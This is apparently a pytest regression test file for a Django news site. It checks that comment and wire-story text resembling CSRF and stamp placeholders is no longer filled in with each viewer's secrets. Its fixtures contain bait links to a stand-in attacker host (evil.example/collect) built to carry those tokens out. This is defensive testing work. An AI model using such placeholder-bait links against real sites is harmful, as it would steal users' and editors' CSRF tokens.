"""Content that looks like a placeholder stays as written (security review,
finding 12). A comment or a wire story holding the old fixed placeholder
strings, or text in today's placeholder form, was filled in with each
viewer's own CSRF token and a fresh valid stamp (the editor's too, in the
moderation queue), so a link in it sent them to a third party."""

import json
import re

import pytest
from django.test import Client

from broadsheet.comments.models import Comment, Status
from broadsheet.comments.moderation import refresh_counts
from broadsheet.core import placeholders
from broadsheet.news.models import ArticlePage
from broadsheet.testing import logged_in, make_article, make_editor, parse, read

pytestmark = pytest.mark.django_db

OLD_CSRF, OLD_STAMP = "bs-csrf-placeholder-5e0c1f", "bs-stamp-placeholder-9a41d7"
# Today's form with a nonce of the right length: a guess, as an attacker makes.
GUESS_CSRF, GUESS_STAMP = "bs-csrf-" + "0" * 32, "bs-stamp-" + "f" * 32
BAIT = (
    f"sources: https://evil.example/collect?t={OLD_CSRF}&s={OLD_STAMP}"
    f"&t2={GUESS_CSRF}&s2={GUESS_STAMP}"
)


def token_and_stamp(page):
    form = page.find("form", id="leave-comment")
    return (
        form.find("input", attrs={"name": "csrfmiddlewaretoken"})["value"],
        form.find("input", attrs={"name": "stamp"})["value"],
    )


@pytest.fixture
def story_with_bait():
    story = make_article("Harbour reopens after storm")
    Comment.objects.create(
        article=story,
        name=OLD_CSRF,
        email="mallory@example.org",
        body=BAIT,
        status=Status.APPROVED,
    )
    refresh_counts([story.pk])
    return ArticlePage.objects.get(pk=story.pk)


def test_a_comment_with_placeholder_text_shows_it_as_written(story_with_bait):
    for reader in (Client(), Client()):  # a miss, then a cache hit
        page = read(reader.get(story_with_bait.url))
        token, stamp = token_and_stamp(page)
        comment = page.find(id=re.compile(r"^comment-\d+$"))
        text = comment.get_text(" ")
        link = comment.find("a", href=re.compile("evil.example"))["href"]

        assert OLD_CSRF in text
        for placeholder in (OLD_CSRF, OLD_STAMP, GUESS_CSRF, GUESS_STAMP):
            assert placeholder in link
        # The reader's own values are in their form and nowhere else.
        assert str(page).count(token) == 1 and str(page).count(stamp) == 1


def test_the_moderation_queue_never_carries_the_editors_token(story_with_bait):
    Comment.objects.update(status=Status.PENDING)
    editor = logged_in(make_editor())

    response = editor.get("/admin/reader-comments/")

    assert response.status_code == 200
    page = parse(response)
    token = page.find("input", attrs={"name": "csrfmiddlewaretoken"})["value"]
    assert OLD_CSRF in page.get_text()
    assert token not in page.find("table").decode_contents()


def test_a_wire_story_with_placeholder_text_shows_it_as_written(tmp_path):
    from broadsheet.wire.tests.conftest import import_ninjs, ninjs_item

    item = ninjs_item(uri="urn:test:bait")
    item["bodies"][0]["value"] = (
        f"<p>Read <a href='https://evil.example/?t={OLD_CSRF}'>this</a>: "
        f"{GUESS_CSRF} {GUESS_STAMP}.</p>"
    )
    path = tmp_path / "bait.json"
    path.write_text(json.dumps(item))
    assert import_ninjs(path, publish=True).status == 0
    story = ArticlePage.objects.get(title="Harbour reopens after storm")

    for reader in (Client(), Client()):
        page = read(reader.get(story.url))
        body = page.find(class_="story__body")
        assert f"{GUESS_CSRF} {GUESS_STAMP}" in body.get_text()
        assert body.find("a")["href"] == f"https://evil.example/?t={OLD_CSRF}"


def test_every_render_draws_its_own_nonce(rf):
    first, second = rf.get("/"), rf.get("/")

    assert placeholders.nonce_for(first) == placeholders.nonce_for(first)
    assert placeholders.nonce_for(first) != placeholders.nonce_for(second)
    assert len(placeholders.nonce_for(first)) == 2 * placeholders.NONCE_BYTES


def test_a_response_rendered_without_placeholders_is_left_alone(rf):
    from django.http import HttpResponse

    request = rf.get("/")
    response = HttpResponse(f"<p>{GUESS_CSRF} {OLD_CSRF}</p>")

    assert placeholders.personalise(request, response).content == (
        f"<p>{GUESS_CSRF} {OLD_CSRF}</p>".encode()
    )


def test_the_cached_page_keeps_its_nonce_and_is_filled_in_for_each_reader():
    story = make_article("Harbour reopens after storm")
    first_reader, second_reader = Client(), Client()

    first = first_reader.get(story.url)
    second = second_reader.get(story.url)

    assert (first["X-Cache"], second["X-Cache"]) == ("miss", "hit")
    first_token, first_stamp = token_and_stamp(read(first))
    second_token, second_stamp = token_and_stamp(read(second))
    assert first_token != second_token and first_stamp != second_stamp
    for content in (first.content, second.content):
        assert b"bs-csrf-" not in content and b"bs-stamp-" not in content
